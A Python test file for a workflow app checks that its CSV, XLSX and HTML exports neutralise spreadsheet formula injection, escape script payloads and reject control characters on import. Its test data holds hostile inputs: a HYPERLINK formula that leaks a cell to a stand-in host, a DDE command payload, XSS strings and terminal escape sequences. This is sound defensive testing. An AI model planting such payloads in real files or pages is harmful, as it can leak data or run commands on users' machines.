"""Spreadsheet formula injection: no exported text cell is one a spreadsheet would evaluate.

Payloads from the OWASP "CSV injection" page and the issue (HYPERLINK leaks, DDE, `+`, `-`,
`@`, full-width `＝`), as company names, advisors and lenders, go through the case export
(CSV and XLSX) and the reports; the files are read back with `csv` and `openpyxl`. The case
export still imports back to the same file, and the HTML export escapes every payload.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from workflow.clock import FixedClock
from workflow.config import Settings
from workflow.demo import clear_cases
from workflow.exports import Column, Sheet, neutral, write_csv, write_html, write_xlsx
from workflow.importer import export_cases, import_cases
from workflow.rows import _norm
from workflow.service import Kaizen
from workflow.setup import init_database

EXAMPLE = Path(__file__).resolve().parents[2] / "docs" / "examples" / "cases.csv"
NOW = datetime(2026, 11, 20, 1, 0, tzinfo=UTC)

PAYLOADS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"y")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=already quoted",
]
STARTS = tuple("=+-@\t\r＝＋－＠")


def evaluable(v: Any) -> bool:
    """Would a spreadsheet read this cell as a formula (or DDE)?"""
    if not isinstance(v, str) or not v.startswith(STARTS):
        return False
    return not re.fullmatch(r"-?\d+(\.\d+)?", v)  # a negative number is a number


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("'=1", "''=1"),  # so that the importer's one removed apostrophe gives it back
        ("福岡銀行", "福岡銀行"),
        ("a=1", "a=1"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_neutral_and_the_importer_undo_each_other(text: str, cell: str) -> None:
    assert neutral(text) == cell
    assert _norm(cell) == unicodedata.normalize("NFKC", text).strip()  # the text, as imported


SHEET = Sheet(
    title="テスト",
    columns=(
        Column("name", "会社名"),
        Column("n", "件数", "int"),
        Column("yen", "金額", "yen"),
        Column("on", "日付", "date"),
    ),
    rows=[
        {"name": p, "n": -5, "yen": 1_000_000, "on": date(2026, 6, 1)}
        for p in [*PAYLOADS, "#N/A", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']
    ],
)


def test_csv_cells_are_never_formulas_and_numbers_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    write_csv(SHEET, path)
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))[1:]
    assert [r for r in rows if any(evaluable(c) for c in r)] == []
    assert {r[1] for r in rows} == {"-5"} and {r[3] for r in rows} == {"2026-06-01"}
    read_back = [_norm(r[0]) for r in rows[: len(PAYLOADS)]]
    assert read_back == [unicodedata.normalize("NFKC", p) for p in PAYLOADS]


def test_xlsx_text_cells_are_strings_and_numbers_dates_typed(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    write_xlsx(SHEET, path)
    ws = load_workbook(path).worksheets[0]
    cells = [c for r in ws.iter_rows(min_row=2) for c in r]
    assert [c.coordinate for c in cells if c.data_type == "f" or evaluable(c.value)] == []
    assert [c.coordinate for c in cells if c.data_type == "e"] == []  # "#N/A" is text
    for r in ws.iter_rows(min_row=2):
        assert r[0].data_type == "s"
        assert r[1].value == -5 and r[2].value == 1_000_000
        assert r[3].value == datetime(2026, 6, 1)


def test_html_escapes_every_payload(tmp_path: Path) -> None:
    path = tmp_path / "s.html"
    write_html(SHEET, path)
    page = path.read_text("utf-8")
    assert "<script" not in page and "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in page


# ---------------------------------------------------------------- the case export, end to end


@pytest.fixture
def k(db_url: str) -> Iterator[Kaizen]:
    eng, _ = init_database(Settings(db_url=db_url), FixedClock(NOW), "admin")
    yield eng
    eng.db.dispose()


def hostile_example(tmp_path: Path) -> Path:
    """The documented example with payloads as company names, advisors and lenders."""
    text = EXAMPLE.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    col = rows[0].index
    for i, r in enumerate(rows[1:]):
        r[col("会社名")] = PAYLOADS[i % len(PAYLOADS)]
        r[col("認定支援機関")] = PAYLOADS[(i + 3) % len(PAYLOADS)]
        # the first lender renamed, its consent date (after '@') kept
        lender = re.sub("[@＠]", "", PAYLOADS[(i + 5) % len(PAYLOADS)])
        first, *rest = r[col("金融機関")].split(";")
        r[col("金融機関")] = ";".join([lender + first[len(first.split("@")[0]) :], *rest])
    path = tmp_path / "hostile.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f, lineterminator="\r\n").writerows(rows)
    return path


def test_case_export_neutralises_and_imports_back_unchanged(k: Kaizen, tmp_path: Path) -> None:
    assert import_cases(k, "admin", hostile_example(tmp_path)).written == 7
    first, book = tmp_path / "first.csv", tmp_path / "cases.xlsx"
    export_cases(k, "admin", first)
    export_cases(k, "admin", book)
    rows = list(csv.reader(io.StringIO(first.read_bytes().decode("utf-8-sig"))))
    assert [c for r in rows for c in r if evaluable(c)] == []
    assert sum(c.startswith("'") for r in rows for c in r) >= 14  # the payloads are there
    ws = load_workbook(book).worksheets[0]
    assert [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"] == []
    assert [c.coordinate for r in ws.iter_rows() for c in r if evaluable(c.value)] == []
    for source in (first, book):
        with k.db.transaction() as s:
            clear_cases(s)
        assert import_cases(k, "admin", source).written == 7
        again = tmp_path / f"again-{source.suffix[1:]}.csv"
        export_cases(k, "admin", again)
        assert again.read_bytes() == first.read_bytes(), source.name


# ---------------------------------------------------------------- cells a terminal cannot hold


def _example_with(tmp_path: Path, column: str, value: str, row: int = 0) -> Path:
    rows = list(csv.reader(io.StringIO(EXAMPLE.read_bytes().decode("utf-8-sig"))))
    rows[1 + row][rows[0].index(column)] = value
    path = tmp_path / "x.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f, lineterminator="\r\n").writerows(rows)
    return path


@pytest.mark.parametrize(
    ("column", "value", "says"),
    [
        ("会社名", "\x1b]0;pwned\x07\x1b[2J", "\\x1b"),
        ("認定支援機関", "博多\x00会計", "\\x00"),
        ("金融機関", "福岡銀行\x9b", "\\x9b"),
        ("会社名", "長" * 32_768, "長すぎ"),
    ],
)
def test_a_cell_with_control_characters_is_a_row_problem(
    k: Kaizen, tmp_path: Path, column: str, value: str, says: str
) -> None:
    from workflow.importer import ImportRejected

    with pytest.raises(ImportRejected) as e:
        import_cases(k, "admin", _example_with(tmp_path, column, value, row=2))
    [problem] = e.value.result.problems
    assert (problem.row, problem.column) == (4, column) and says in problem.message
    assert k.list_cases("admin") == []


def test_zero_width_and_bidi_characters_are_dropped_on_import(k: Kaizen, tmp_path: Path) -> None:
    path = _example_with(tmp_path, "会社名", "\u202e株式会社\u200b博多\ufeff")
    assert import_cases(k, "admin", path).written == 7
    assert "株式会社博多" in {r.company_name for r in k.list_cases("admin")}
